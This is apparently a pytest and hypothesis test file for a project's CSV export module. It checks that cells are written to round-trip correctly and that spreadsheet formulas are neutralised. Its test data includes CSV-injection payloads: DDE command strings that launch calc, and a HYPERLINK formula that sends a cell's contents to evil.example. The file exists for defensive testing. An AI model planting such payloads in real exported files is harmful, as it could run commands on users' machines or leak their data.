"""What is written as CSV is read back the same, and no spreadsheet runs any of it."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import unicodedata
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from core.csv_rows import BOM, Cell, csv_rows, guarded

ROOT = Path(__file__).parents[2]
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\u2212\ufe63\ufe66\t\r"
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"cliquez")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u00a0\u200b\ufeff=1+1",
    '"=1+1',
    "a;=1+1",
    'a;"=1+1',
    "a,\t+cmd",
    "a\n-1-cmd",
    "+33-6-12",
    "-",
]
texts = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)
hostile = st.one_of(
    st.sampled_from(FORMULAS),
    st.builds(
        "{}{}{}{}".format,
        texts,
        st.sampled_from(["", ",", ";", "\n", "\r\n", "\t"]),
        st.sampled_from(SIGNS),
        texts,
    ),
    st.text(max_size=12),
)


def read(written: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def written(*rows: list[Cell], bom: bool = False) -> bytes:
    return b"".join(csv_rows(["a", "b", "c"][: len(rows[0])], rows, bom=bom))


def begins_a_formula(cell: str) -> bool:
    """As a spreadsheet may see it: spaces and quotes before do not count, full-width forms do."""
    bare = re.sub(r"^[\s\u200b-\u200f\u2060\ufeff\"]+", "", cell)
    return unicodedata.normalize("NFKC", bare)[:1] in {"=", "+", "-", "@", "\u2212"} or cell[:1] in {
        "\t",
        "\r",
        "\n",
    }


@given(
    st.lists(
        st.lists(texts.filter(lambda text: not begins_a_formula(text)) | st.none(), min_size=3, max_size=3)
    )
)
def test_plain_texts_are_read_back_as_they_were(rows: list[list[str | None]]) -> None:
    plain = [
        [cell or "" for cell in row]
        for row in rows
        if not any(re.search("[,;\t]", cell or "") for cell in row)
    ]
    got = read(b"".join(csv_rows(["a", "b", "c"], plain)))
    assert got == [["a", "b", "c"], *plain]


@given(st.lists(hostile, min_size=3, max_size=3))
@example(["=1", "a;=1", "-"])
def test_what_is_read_back_differs_by_apostrophes_alone_and_no_cell_is_a_formula(row: list[str]) -> None:
    [_, got] = read(written(list(row)))
    for before, after in zip(row, got, strict=True):
        storable = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff]", "\ufffd", before)
        assert after.replace("'", "") == storable.replace("'", "")
        assert len(after) - after.count("'") == len(storable) - storable.count("'")
        assert not begins_a_formula(after) or re.fullmatch(r"[+-]?[0-9][0-9\s]*([.,][0-9]+)?", after)


@given(st.lists(hostile, min_size=2, max_size=3), st.sampled_from(";\t,"))
def test_a_spreadsheet_with_another_separator_finds_no_formula_either(row: list[str], separator: str) -> None:
    """Each line is cut at every separator, quotes or not: the worst that a reader of another dialect can do."""
    for line in re.split(r"[\r\n]+", written(list(row)).decode()):
        for cell in line.split(separator)[1 if separator == "," else 0 :]:
            number = re.fullmatch(r"\"*[+-]?[0-9][0-9\s]*([.,][0-9]+)?\"*", cell)
            assert number or not begins_a_formula(
                cell.replace("\t", " ").strip() if separator != "\t" else cell
            )


@given(hostile)
def test_guarding_twice_is_guarding_once(text: str) -> None:
    assert guarded(guarded(text)) == guarded(text)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_and_not_run(formula: str) -> None:
    [_, [cell]] = read(written([formula]))
    assert "'" in cell
    assert cell != formula
    assert not begins_a_formula(cell)


@given(
    st.integers()
    | st.decimals(allow_nan=False, allow_infinity=False, places=2)
    | st.floats(allow_nan=False, allow_infinity=False)
)
def test_a_number_stays_the_number_it_is(number: Any) -> None:
    [_, [cell]] = read(written([number]))
    assert type(number)(cell) == number
    assert not cell.startswith("'")


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),
        (-0.5, "-0.5"),
        (Decimal("-1E+3"), "-1000"),
        (True, "true"),
        (None, ""),
        (dt.date(2026, 11, 24), "2026-11-24"),
        (dt.datetime(2026, 11, 24, 12, tzinfo=dt.UTC), "2026-11-24T12:00:00+00:00"),
        (float("-inf"), "'-inf"),
        (Decimal("-Infinity"), "'-Infinity"),
        ("+33 4 72 00 00 00", "+33 4 72 00 00 00"),
        ("+33\u00a04\u00a072\u00a000", "+33\u00a04\u00a072\u00a000"),
        ("0472000000", "0472000000"),
        ("-5,50", "-5,50"),
        ("+33-6-12", "'+33-6-12"),
        ("Boulanger, boulangère ; R&D", "Boulanger, boulangère ; R&D"),
        ("mi-temps - Lyon", "mi-temps - Lyon"),
        ("a\ud800\x00\x1b", "a\ufffd\ufffd\ufffd"),
    ],
)
def test_a_value_is_written_as_people_read_it(value: Any, cell: str) -> None:
    assert read(written([value]))[1] == [cell]


def test_lines_end_and_quotes_double_as_rfc_4180_says() -> None:
    assert written(['dit "oui"', "a,b", "un\r\ndeux"]) == b'a,b,c\r\n"dit ""oui""","a,b","un\r\ndeux"\r\n'


def test_a_byte_order_mark_stands_first_and_once() -> None:
    assert written(["é", "è", "à"], bom=True) == BOM + "a,b,c\r\né,è,à\r\n".encode()


def test_rows_are_written_as_they_come() -> None:
    def rows() -> Any:
        yield ["1"]
        raise AssertionError("the first line was not given before the second row was asked for")

    lines = csv_rows(["a"], rows())
    assert [next(lines), next(lines)] == [b"a\r\n", b"1\r\n"]


@pytest.mark.parametrize("row", [[], ["1"], ["1", "2", "3"]])
def test_a_row_of_another_length_is_a_mistake_of_ours(row: list[Cell]) -> None:
    with pytest.raises(ValueError, match="cells under a header of 2"):
        list(csv_rows(["a", "b"], [row]))


# One door


def writes_csv(source: str) -> bool:
    """Whether a module takes a writer of CSV from anywhere but core.csv_rows."""
    for node in ast.walk(ast.parse(source)):
        match node:
            case ast.ImportFrom(module="csv" | "_csv", names=names):
                if any(name.name in {"writer", "DictWriter", "*"} for name in names):
                    return True
            case ast.Attribute(attr="writer" | "DictWriter", value=ast.Name(id=name)) if "csv" in name:
                return True
            case ast.Attribute(attr="to_csv" | "write_csv"):
                return True
            case ast.Import(names=names) if any(name.name == "csv" and name.asname for name in names):
                return True
    return False


@pytest.mark.parametrize(
    "source",
    [
        "import csv\ncsv.writer(f)",
        "import csv\nx = csv.DictWriter",
        "from csv import reader, writer",
        "from csv import *",
        "import csv as c",
        "import _csv\n_csv.writer(f)",
        "frame.to_csv(f)",
    ],
)
def test_a_second_door_would_be_seen(source: str) -> None:
    assert writes_csv(source)


def test_nothing_else_writes_csv() -> None:
    rooms = [
        "core",
        "schemas",
        "connectors",
        "tasks",
        "flows",
        "deployments",
        "portal",
        "sandbox",
        "benchmarks",
    ]
    files = [file for room in rooms for file in (ROOT / room).rglob("*.py")]
    assert len(files) > 80
    assert [str(file.relative_to(ROOT)) for file in files if writes_csv(file.read_text("utf-8"))] == [
        "core/csv_rows.py"
    ]
